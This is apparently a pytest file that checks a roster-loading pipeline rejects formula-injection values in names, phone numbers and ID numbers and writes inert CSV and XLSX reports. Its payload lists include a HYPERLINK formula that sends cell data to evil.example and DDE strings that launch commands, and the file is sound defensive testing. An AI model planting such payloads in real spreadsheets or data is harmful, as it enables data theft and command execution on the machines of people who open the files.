"""Formula injection: roster values that a spreadsheet would run as formulas.

A name, phone or ID number that looks like a formula is an invalid value; whatever a report
carries (the invalid values themselves, file names, column headings) is written so that no
spreadsheet takes it for a formula: CSV cells are prefixed with `'` (OWASP), XLSX cells are
always string cells, never formula cells.
"""

from __future__ import annotations

import csv
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from neo4j import Driver
from openpyxl import load_workbook

from core import validation as v
from core.identity import IdentityKey
from core.settings import Settings
from loaders.errors import LoadRefused, Problem
from loaders.pipeline import LoadOptions, load_files
from loaders.report import REPORT_HEADINGS, write_report
from tests.loaders.rosters import PEOPLE_HEADER, person_id_number, write_base, write_csv

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "#N/A",
]


def _formula_like(text: str) -> bool:
    return text.lstrip(" ")[:1] in STARTS


def _read_back(path: Path) -> list[list[Any]]:
    """Every row of a report, CSV or XLSX, asserting the XLSX has no formula cell."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            return list(csv.reader(handle))
    book = load_workbook(path, data_only=False)
    rows: list[list[Any]] = []
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                assert bool(cell.quotePrefix) == _formula_like(cell.value), cell.value
        rows.append([cell.value for cell in row])
    return rows


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_no_report_cell_is_a_live_formula(tmp_path: Path, suffix: str) -> None:
    problems = [
        Problem(
            file=payload if i % 3 == 0 else "people.csv",
            sheet="people.csv",
            row=i + 2,
            column=payload if i % 3 == 1 else "姓名 (B)",
            value=payload,
            code="PHONE_FORMAT",
            zh="电话号码格式不对",
            en="not a phone number",
        )
        for i, payload in enumerate(PAYLOADS)
    ]
    path = tmp_path / f"report{suffix}"
    write_report(problems, path)
    header, *rows = _read_back(path)
    assert tuple(header) == REPORT_HEADINGS
    assert len(rows) == len(PAYLOADS)
    for row, payload in zip(rows, PAYLOADS, strict=True):
        value = row[4]
        if suffix == ".csv":
            assert not _formula_like(value), value
            assert value == ("'" + payload if _formula_like(payload) else payload)
            assert not any(_formula_like(cell) for cell in row), row
        else:  # a string cell keeps the text (XML reads a CR back as LF)
            assert value == payload.replace("\r", "\n")


def _refused(
    driver: Driver,
    settings: Settings,
    identity: IdentityKey,
    tmp_path: Path,
    rows: list[list[object]],
) -> list[Problem]:
    options = LoadOptions(as_of=date(2025, 1, 1))
    db = settings.neo4j_database
    load_files(driver, db, write_base(tmp_path), options, identity=identity)
    path = write_csv(tmp_path / "people.csv", [PEOPLE_HEADER, *rows], "utf-8-sig")
    with pytest.raises(LoadRefused) as refused:
        load_files(driver, db, [path], options, identity=identity)
    return refused.value.problems


def test_a_roster_of_formulas_is_refused_and_reported_inert(
    tmp_path: Path, empty_graph: Driver, settings: Settings, identity: IdentityKey
) -> None:
    good_id = person_id_number(1)
    rows: list[list[object]] = [
        [1, "=1+1", "女", "1985.03", good_id, "群众", "柳毅第一网格", "", "13912345678", ""],
        [2, "李红", "女", "1990.05", "=SUM(A1)", "群众", "柳毅第一网格", "", "", ""],
        [3, "王芳", "女", "1990.01", "", "群众", "柳毅第一网格", "", "@SUM(1)", ""],
        [4, "赵兰", "女", "1990.01", "", "群众", "柳毅第一网格", "", "-13912345678", ""],
        [5, "孙丽", "女", "1990.01", "", "群众", '=HYPERLINK("x")', "", "＋8613912345678", ""],
    ]
    problems = _refused(empty_graph, settings, identity, tmp_path, rows)
    found = {(p.row, p.code) for p in problems}
    assert {(2, "FORMULA"), (3, "FORMULA"), (4, "FORMULA"), (5, "FORMULA")} <= found
    assert (6, "UNKNOWN_GRID") in found  # the grid cell: not a grid, and reported inert
    assert not any(p.row == 6 and p.column.startswith("联系电话") for p in problems)  # +86 ok
    formula = next(p for p in problems if p.code == "FORMULA")
    assert "公式" in formula.zh and "formula" in formula.en
    for suffix in (".csv", ".xlsx"):
        path = tmp_path / f"report{suffix}"
        write_report(problems, path)
        for row in _read_back(path):
            if suffix == ".csv":
                assert not any(_formula_like(cell) for cell in row), row


@pytest.mark.parametrize(
    ("parser", "value"),
    [
        ("parse_name", '=HYPERLINK("http://evil.example","张三")'),
        ("parse_name", "+张三"),
        ("parse_name", "-张三"),
        ("parse_name", "@张三"),
        ("parse_name", "\t=张三"),
        ("parse_name", "＝张三"),
        ("parse_phone", "=13912345678"),
        ("parse_phone", "-13912345678"),
        ("parse_phone", "+1+13912345678"),
        ("parse_phone", "@13912345678"),
        ("parse_phone", "+86=1+1"),
        ("parse_id_number", "=370303198503121234"),
        ("parse_id_number", "-370303198503121234"),
        ("parse_id_number", "＠SUM(A1)"),
    ],
)
def test_names_phones_and_id_numbers_that_look_like_formulas_are_invalid(
    parser: str, value: str
) -> None:
    parse: Callable[[Any], Any] = getattr(v, parser)
    with pytest.raises(v.InvalidValue) as error:
        parse(value)
    assert error.value.code == "FORMULA"
    assert "公式" in error.value.zh and "formula" in error.value.en


def test_the_country_code_still_opens_a_mobile_number() -> None:
    for given in ("+86 139 1234 5678", "＋86-139-1234-5678", "0086 13912345678", "+8613912345678"):
        assert v.parse_phone(given) == "13912345678"
    assert v.parse_name("张-三") == "张-三" and v.parse_name(" 孟 丹阳 ") == "孟丹阳"
